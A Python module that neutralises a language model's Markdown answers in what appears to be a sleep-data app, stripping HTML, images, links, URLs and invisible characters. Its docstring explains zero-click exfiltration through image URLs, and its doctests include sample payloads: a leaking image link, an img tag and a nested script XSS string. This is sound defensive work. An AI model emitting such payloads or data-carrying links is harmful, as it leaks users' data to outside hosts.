"""Model output made inert before anyone displays it.

A language model's answer is shown as Markdown in the app and returned by ``ask --json`` and
``/ask``. Anything in it that a browser would fetch or follow on its own is a channel out of
the page (an image URL carrying data read from the night is a zero-click exfiltration), so
`inert_markdown` keeps only text and formatting: emphasis, lists, headings, tables, code. It
removes raw HTML (tags and comments), images (inline and reference style), links (the text
stays, the target goes), link reference definitions, autolinks and bare URLs, and control and
invisible characters (terminal escapes, bidirectional overrides, zero-width characters). Figures the
agent draws never travel as links in an answer: the app shows them as chat files of its own.
The chat component's own HTML sanitiser (Gradio ``sanitize_html``) runs after this, as a second line.
"""

from __future__ import annotations

import re

__all__ = ["REMOVED_IMAGE", "REMOVED_LINK", "inert_markdown"]

REMOVED_IMAGE = "(image removed)"
REMOVED_LINK = "(link removed)"

# A link/image target: "(url)", "(url 'title')", with one level of nested parentheses.
_TARGET = r"\((?:[^()\n]|\([^()\n]*\))*\)"
_LABEL = r"\[(?:[^\[\]\n]|\[[^\[\]\n]*\])*\]"

_HTML_COMMENT = re.compile(r"<!--.*?(?:-->|$)", re.S)
# A tag: "<" or "</", a tag name, then whitespace, "/" or ">" (as a browser reads "<svg/onload=...>"),
# attributes up to ">" (or the end of the text: a tag still being streamed). A comparison has no tag
# name ("AHI <5") or none followed by a delimiter ("x<y, 3 > 2") and stays. Also an autolink
# (<http://...>, <name@host>), a declaration (<!DOCTYPE ...>, <![CDATA[) or processing instruction (<?...>).
_HTML_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9-]*(?:>|[\s/][^<>]*(?:>|\Z))"
                       r"|<[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*>|<[^\s<>@]+@[^\s<>@]+>"
                       r"|<[!?][^<>]*>?")
_IMAGE = re.compile(rf"!{_LABEL}(?:{_TARGET}|\s*\[[^\]\n]*\])?")
_LINK_DEFINITION = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*\S+.*$", re.M)
_INLINE_LINK = re.compile(rf"({_LABEL}){_TARGET}")
_REFERENCE_LINK = re.compile(rf"({_LABEL})\[[^\]\n]*\]")
_BARE_URL = re.compile(r"\b(?:https?|ftp|file|data|javascript|vbscript|mailto|blob):[^\s<>()\[\]]*|\bwww\.[^\s<>()\[\]]+",
                       re.IGNORECASE)


def inert_markdown(text: str) -> str:
    """`text` without raw HTML, images, links or URLs; plain text and Markdown formatting stay.

    Examples
    --------
    >>> inert_markdown("AHI 12 ![x](http://host/leak?q=AHI) <img src=http://host/i> see [AASM](http://aasm.org)")
    'AHI 12 (image removed)  see AASM'
    >>> inert_markdown("**AHI < 5** is normal; x<y, 3 > 2; AHI <5 and SpO2 > 90 %")   # comparisons are no tags
    '**AHI < 5** is normal; x<y, 3 > 2; AHI <5 and SpO2 > 90 %'
    >>> inert_markdown("<<script>script>alert(1)<</script>/script>")   # no tag rebuilt from the pieces
    'alert(1)'
    """
    if not isinstance(text, str):
        return text
    # Removing a tag can join its neighbours into a new one ("<<script>script>" -> "<script>"):
    # repeat until nothing changes. Each pass that changes the text shortens it, but a deeply
    # nested text could take many passes; after _MAX_PASSES, every "<" that could open a tag goes.
    for _ in range(_MAX_PASSES):
        cleaned = _inert_once(text)
        if cleaned == text:
            return text
        text = cleaned
    return _TAG_OPENER.sub("", text)


_MAX_PASSES = 8
_TAG_OPENER = re.compile(r"<(?=[A-Za-z/!?])")


# Control and invisible format characters: terminal escapes (ESC]8 makes a link in a terminal,
# CR hides a line), bidirectional overrides and zero-width characters, which make the text shown
# differ from the text checked ("1\u200b89" reads as 189). Newlines and tabs stay.
_INVISIBLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")


# Terminal escape sequences as a whole (CSI "ESC[...m", OSC "ESC]...BEL"), so no parameter is left behind as text.
_ESCAPE = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?|\x1b[@-Z\\-_]")


def _inert_once(text: str) -> str:
    text = _ESCAPE.sub("", text)
    text = _INVISIBLE.sub("", text)
    text = _HTML_COMMENT.sub("", text)
    text = _HTML_TAG.sub("", text)
    text = _IMAGE.sub(REMOVED_IMAGE, text)
    text = _LINK_DEFINITION.sub("", text)
    text = _INLINE_LINK.sub(lambda m: m.group(1)[1:-1], text)
    text = _REFERENCE_LINK.sub(lambda m: m.group(1)[1:-1], text)
    text = _BARE_URL.sub(REMOVED_LINK, text)
    return text
